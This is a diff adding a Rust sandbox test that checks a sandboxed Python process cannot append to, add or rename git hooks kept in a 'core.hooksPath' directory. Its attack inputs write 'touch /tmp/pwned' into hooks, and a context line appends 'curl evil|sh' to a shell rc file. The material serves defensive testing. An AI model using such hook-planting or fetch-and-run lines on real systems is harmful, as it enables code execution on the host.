@@ -117,3 +117,59 @@ err(lambda: open("rc", "a").write("curl evil|sh\n"))
         assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
     });
 }
+
+/// A repository whose config keeps its hooks in the worktree (`git config
+/// core.hooksPath .githooks`, as many teams and husky do): those hooks run
+/// on the host at the next `git commit` just as `.git/hooks` would, so the
+/// sandbox may not edit, replace or add one. Full level: read-only and
+/// pinned; `landlock` level: put back after the run.
+#[test]
+fn hooks_in_the_directory_core_hooks_path_names_cannot_be_planted() {
+    each_mode(|case| {
+        crate::common::host_git(case.project(), &["init", "-q"]);
+        crate::common::host_git(case.project(), &["config", "core.hooksPath", ".githooks"]);
+        let hook = case.write(".githooks/pre-commit", "#!/bin/sh\necho lint ok\n");
+        let attack = r#"
+print("ran=1")
+def err(f):
+    try:
+        f()
+        return 0
+    except OSError as e:
+        return e.errno
+print("append=%d" % err(lambda: open(".githooks/pre-commit", "a").write("touch /tmp/pwned\n")))
+print("add=%d" % err(lambda: open(".githooks/post-checkout", "w").write("touch /tmp/pwned\n")))
+print("rename=%d" % err(lambda: os.rename(".githooks", ".githooks.old")))
+"#;
+        let code = format!("import os\n{attack}");
+        let full = case.run(&["run", "--", "/usr/bin/python3", "-c", &code]);
+        full.ran().fields(&[
+            ("append", EROFS),
+            ("add", EROFS),
+            ("rename", EBUSY),
+        ]);
+        let ll = case.run(&[
+            "run",
+            "--isolation",
+            "landlock",
+            "--",
+            "/usr/bin/python3",
+            "-c",
+            &code,
+        ]);
+        ll.ran();
+        for level in [&full, &ll] {
+            assert_eq!(
+                std::fs::read_to_string(&hook).unwrap(),
+                "#!/bin/sh\necho lint ok\n",
+                "the hook changed on the host:\n{}",
+                level.all()
+            );
+            assert!(
+                !case.project().join(".githooks/post-checkout").exists(),
+                "a new hook was left on the host:\n{}",
+                level.all()
+            );
+        }
+    });
+}
